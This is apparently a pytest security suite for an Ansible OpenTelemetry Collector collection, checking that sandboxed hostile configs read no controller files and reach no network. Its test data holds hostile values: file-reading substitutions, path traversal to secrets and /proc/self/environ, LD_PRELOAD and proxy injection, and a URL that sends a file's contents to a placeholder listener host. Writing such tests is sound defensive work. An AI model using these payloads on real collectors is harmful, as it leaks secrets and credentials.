# Copyright (c) The o11y.opentelemetry maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile configs and files of tests read nothing of the controller and reach nobody, with the real Collector.

Each attack runs behind the second wall, the checks, and without it, so that the first one is seen to hold alone. The
attacks that are marked as such are seen to succeed where nothing is isolated: else these tests could not fail.
"""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible_collections.o11y.opentelemetry.plugins.module_utils._otelcol.config.paths import Position
from ansible_collections.o11y.opentelemetry.plugins.module_utils._otelcol.errors import Problem
from ansible_collections.o11y.opentelemetry.plugins.module_utils._otelcol.testing import case, outreach
from ansible_collections.o11y.opentelemetry.plugins.plugin_utils._otelcol import _placeholders, _second_opinion, _yaml
from ansible_collections.o11y.opentelemetry.plugins.plugin_utils._otelcol._isolation import sandbox
from ansible_collections.o11y.opentelemetry.plugins.plugin_utils._otelcol._isolation.choice import Isolation
from ansible_collections.o11y.opentelemetry.plugins.plugin_utils._otelcol._testing import (
    collector_run,
    collector_runtime,
    collector_setup,
    run_case,
)

from .test_coverage import binary  # noqa: F401 - a fixture

WHY = sandbox.why_unavailable()
pytestmark = pytest.mark.skipif(bool(WHY), reason=f"this system allows no namespaces: {WHY}")
ALL_PACKETS, IPV4 = 0x0300, b"\x08\x00"  # ETH_P_ALL in the order of the network, ETH_P_IP
ACTIVE_SECONDS = 2
PLANTED = "planted-6f1c9d"
SPAN = {"spans": [{"name": "x", "attributes": {"b": "1"}}]}
LOG = {"files": {"/var/log/a.log": "text"}}


class _Listener(http.server.BaseHTTPRequestHandler):
    calls: list[str]

    def do_GET(self) -> None:
        self.calls.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"answered")

    do_POST = do_CONNECT = do_GET  # noqa: N815 - names of http.server

    def log_message(self, *_arguments: Any) -> None:
        """Print nothing."""


@dataclass(frozen=True)
class Outside:
    """What an attack wants: a file, a folder to write to, and a service of the controller."""

    folder: Path
    host: str
    calls: list[str]

    def filled(self, text: str) -> str:
        """Return a text with the places of this machine."""
        named = {"SECRET": str(self.folder / "secret.yaml"), "FOLDER": str(self.folder), "HOST": self.host}
        for name, value in named.items():
            text = text.replace(f"<{name}>", value)
        return text

    def touched(self) -> bool:
        """Return whether anything was written or called."""
        return bool(self.calls) or sorted(path.name for path in self.folder.iterdir()) != ["secret.yaml"]


@contextmanager
def outside(folder: Path) -> Iterator[Outside]:
    target = folder / "outside"
    target.mkdir()
    (target / "secret.yaml").write_text(f"{PLANTED}\n")
    calls: list[str] = []
    handler = type("Handler", (_Listener,), {"calls": calls})
    with http.server.ThreadingHTTPServer(("0.0.0.0", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        thread.start()
        yield Outside(target, f"127.0.0.1:{server.server_address[1]}", calls)
        server.shutdown()


@dataclass(frozen=True)
class Attack:
    """A config by its parts, the variables of its test, and whether it succeeds where nothing is isolated."""

    config: Mapping[str, Any]
    given: Mapping[str, Any]
    variables: Mapping[str, str] = field(default_factory=dict)
    succeeds: bool = True


def spans(value: Any, variables: Mapping[str, str] | None = None, succeeds: bool = True) -> Attack:
    action = {"key": "a", "value": value, "action": "insert"}
    return processor("attributes", {"actions": [action]}, variables, succeeds)


def processor(name: str, settings: Any, variables: Mapping[str, str] | None = None, succeeds: bool = True) -> Attack:
    config = {
        "receivers": {"otlp": {"protocols": {"grpc": {}}}},
        "processors": {name: settings},
        "exporters": {"debug": {}},
        "service": {"pipelines": {"traces": {"receivers": ["otlp"], "processors": [name], "exporters": ["debug"]}}},
    }
    return Attack(config, SPAN, variables or {}, succeeds)


def logs(settings: Mapping[str, Any], variables: Mapping[str, str] | None = None, succeeds: bool = True) -> Attack:
    config = {
        "receivers": {"file_log": {"include": ["/var/log/a.log"], **settings}},
        "exporters": {"debug": {}},
        "service": {"pipelines": {"logs": {"receivers": ["file_log"], "exporters": ["debug"]}}},
    }
    return Attack(config, LOG, variables or {}, succeeds)


UP = "/.." * 12
OUTPUT = {"type": "file_output", "path": "<FOLDER>/written"}
ATTACKS = {
    "dollars": spans("$$${file:<SECRET>}"),
    "file in a variable": spans("${env:X}", {"X": "${file:<SECRET>}"}),
    "include as a text": logs({"include": "<SECRET>"}, succeeds=False),  # a text is a list of one by now
    "dots in a variable": logs({"include": ["/${env:P}"]}, {"P": f"{UP}<SECRET>"}),
    "address in a variable": spans("${env:X}", {"X": "${http://<HOST>/x?${file:<SECRET>}}"}),
    "file": spans("${file:<SECRET>}"),
    "http": spans("${http://<HOST>/x}"),
    "https": spans("${https://<HOST>/x}", succeeds=False),  # the listener has no certificate
    "yaml of a file": spans("${yaml:${file:<SECRET>}}"),
    "dollar in a variable": spans("${env:A}{file:<SECRET>}", {"A": "$"}, succeeds=False),
    "scheme in a variable": spans("${${env:S}:<SECRET>}", {"S": "file"}),
    "default": spans("${env:NONE:-${file:<SECRET>}}", succeeds=False),
    "variable in a variable": spans("${env:X}", {"X": "${env:Y}", "Y": "${file:<SECRET>}"}),
    "component in a variable": processor(
        "attributes", "${env:X}", {"X": "{actions: [{key: a, value: '${file:<SECRET>}', action: insert}]}"}
    ),
    "five dollars": spans("$$$$${file:<SECRET>}"),
    "map of a file": spans({"${file:<SECRET>}": "${file:<SECRET>}"}, succeeds=False),
    "statement": processor(
        "transform", {"trace_statements": ['set(span.attributes["a"], "${env:X}")']}, {"X": "${file:<SECRET>}"}
    ),
    "dots": logs({"include": [f"{UP}<SECRET>"]}, succeeds=False),
    "any depth": logs({"include": ["/${env:P}/**/secret.yaml"]}, {"P": f"{UP}<FOLDER>/.."}),
    "environment of the play": logs({"include": ["/${env:P}"]}, {"P": f"{UP}/proc/self/environ"}, succeeds=False),
    "list in a variable": logs({"include": "${env:P}"}, {"P": "[<SECRET>]"}, succeeds=False),
    "file_input": logs({"operators": [{"type": "file_input", "include": ["<SECRET>"]}]}, succeeds=False),
    "file_output": logs({"operators": [OUTPUT]}),
    "settings in a variable": logs({"operators": "${env:O}"}, {"O": json.dumps([OUTPUT])}),
    "proxy": spans("1", {"HTTP_PROXY": "http://<HOST>", "http_proxy": "http://<HOST>"}, succeeds=False),
    "kubeconfig": processor("k8s_attributes", {"auth_type": "kubeConfig"}, {"KUBECONFIG": "<SECRET>"}, succeeds=False),
    "detectors": processor("resource_detection", {"detectors": ["${env:D}"]}, {"D": "ec2"}, succeeds=False),
    "loader": spans("1", {"LD_PRELOAD": "<SECRET>", "SSL_CERT_FILE": "<SECRET>", "GODEBUG": "netdns=go"}, False),
}


def told(binary: str, attack: Attack, place: Outside, isolated: bool) -> str:  # noqa: F811
    """Return everything that a test of this attack tells."""
    config, variables, given = (
        json.loads(place.filled(json.dumps(part))) for part in (attack.config, attack.variables, attack.given)
    )
    surroundings = {**_placeholders.build_placeholder_environment(config, None), **variables}
    run = collector_setup.CollectorSetup(
        binary,
        config,
        surroundings,
        {},
        "otlp_http",
        _yaml.dump,
        str,
        isolation=Isolation(isolated),
        suite_variables=variables,
    )
    try:
        return str(run_case.run_case(run, case.ConfigCase("a", "a", (given,), {})))
    except Problem as problem:
        return str(problem)


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("walls", [1, 2])
def test_an_attack_reads_and_reaches_nothing(
    binary: str,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    walls: int,
) -> None:
    monkeypatch.setenv("CI_TOKEN", PLANTED)
    if walls == 1:
        monkeypatch.setattr(outreach, "check_outreach", lambda *_given: None)
    with outside(tmp_path) as place:
        said = told(binary, ATTACKS[name], place, True)
        assert PLANTED not in said
        assert not place.touched()


@pytest.mark.parametrize("name", [name for name, attack in ATTACKS.items() if attack.succeeds])
def test_it_succeeds_where_nothing_holds_it(
    binary: str,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
) -> None:
    monkeypatch.setattr(outreach, "check_outreach", lambda *_given: None)
    with outside(tmp_path) as place:
        said = told(binary, ATTACKS[name], place, False)
        assert PLANTED in said or place.touched(), said


# A whole config, as nobody changed its ends: what the harness might forget to replace.
WHOLE = """
receivers:
  otlp: {protocols: {http: {endpoint: "127.0.0.1:0"}}}
  file_log: {include: [<SECRET>, /proc/*/environ, /etc/*], start_at: beginning, poll_interval: 50ms}
  prometheus: {config: {scrape_configs: [
    {job_name: a, scrape_interval: 100ms, scrape_timeout: 50ms, static_configs: [{targets: [<HOST>]}]},
    {job_name: b, scrape_interval: 100ms, scrape_timeout: 50ms, http_sd_configs: [{url: "http://<HOST>/sd"}]}]}}
  host_metrics: {collection_interval: 100ms, root_path: <FOLDER>, scrapers: {filesystem: {}, memory: {}}}
  statsd: {endpoint: "127.0.0.1:0"}
processors:
  resource_detection: {detectors: [system, ec2, gcp, azure], timeout: 200ms}
exporters:
  otlp_http/host: {endpoint: "http://<HOST>", compression: none, tls: {insecure: true}}
  otlp_grpc/host: {endpoint: "<HOST>", tls: {insecure: true}}
  file: {path: <FOLDER>/written}
  debug: {verbosity: detailed}
  prometheus_remote_write: {endpoint: "http://<HOST>/write"}
extensions:
  zpages: {endpoint: "0.0.0.0:0"}
  health_check: {endpoint: "0.0.0.0:0"}
  file_storage: {directory: <FOLDER>, create_directory: true}
service:
  telemetry: {metrics: {level: none}}
  extensions: [zpages, health_check]
  pipelines:
    logs: {receivers: [file_log], exporters: [otlp_http/host, debug]}
    metrics: {receivers: [prometheus, host_metrics], exporters: [otlp_http/host, prometheus_remote_write]}
    traces: {receivers: [otlp], processors: [resource_detection], exporters: [otlp_grpc/host]}
"""
PARTS = {
    "as it is": lambda config: config,
    "file exporter": lambda config: config["service"]["pipelines"]["logs"]["exporters"].append("file"),
    "storage": lambda config: config["service"]["extensions"].append("file_storage"),
}


def ran(binary: str, text: str, isolated: bool) -> tuple[str, set[str]]:  # noqa: F811
    """Return the log of a Collector that runs for a while, and the addresses of packets in its network."""
    with collector_runtime.open_runtime(isolated) as place:
        is_apart = isinstance(place, collector_runtime.IsolatedRuntime)
        sniffer = place.namespace_sandbox.socket(socket.AF_PACKET, socket.SOCK_RAW, ALL_PACKETS) if is_apart else None
        command = collector_run.CollectorCommand(
            binary, text, _placeholders.build_placeholder_environment(yaml.safe_load(text), None)
        )
        with suppress(Problem), collector_run.run_collector(place, command, 20):
            threading.Event().wait(ACTIVE_SECONDS)
        seen = set(_destinations(sniffer)) if sniffer else set[str]()
        if sniffer:
            sniffer.close()
        return (place.folder / "log").read_text(errors="replace"), seen


def _destinations(sniffer: Any) -> Iterator[str]:
    """Yield the destination of each packet that a socket has seen, with its interface."""
    sniffer.settimeout(0.1)
    while True:
        try:
            packet, where = sniffer.recvfrom(65536)
        except TimeoutError:
            return
        is_ip = packet[12:14] == IPV4
        yield f"{where[0]} {socket.inet_ntoa(packet[30:34]) if is_ip else 'other'}"


@pytest.mark.parametrize("part", PARTS)
def test_a_whole_config_with_its_own_ends_reaches_nothing(
    binary: str,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    part: str,
) -> None:
    monkeypatch.setenv("CI_TOKEN", PLANTED)
    with outside(tmp_path) as place:
        config = yaml.safe_load(place.filled(WHOLE))
        PARTS[part](config)
        log, packets = ran(binary, yaml.safe_dump(config), True)
        assert log
        assert PLANTED not in log
        assert not place.touched()
        assert {line.split()[0] for line in packets} <= {"lo"}
        assert {line.split()[1] for line in packets} <= {"127.0.0.1", "other"}


def test_a_whole_config_reaches_the_listener_where_nothing_is_isolated(binary: str, tmp_path: Path) -> None:  # noqa: F811
    with outside(tmp_path) as place:
        log, _packets = ran(binary, place.filled(WHOLE), False)
        assert PLANTED in log
        assert place.calls


@pytest.mark.parametrize("value", ["${file:<SECRET>}", "${http://<HOST>/x?${file:<SECRET>}}"])
def test_the_second_opinion_of_validate_reads_nothing(binary: str, tmp_path: Path, value: str) -> None:  # noqa: F811
    with outside(tmp_path) as place:
        config = {
            "receivers": {"otlp": place.filled(value)},
            "exporters": {"debug": {}},
            "service": {"pipelines": {"traces": {"receivers": ["otlp"], "exporters": ["debug"]}}},
        }
        finding = _second_opinion.validate_by_program(binary, config, lambda _path: Position())
        assert finding is not None
        assert PLANTED not in str(finding)
        assert not place.touched()
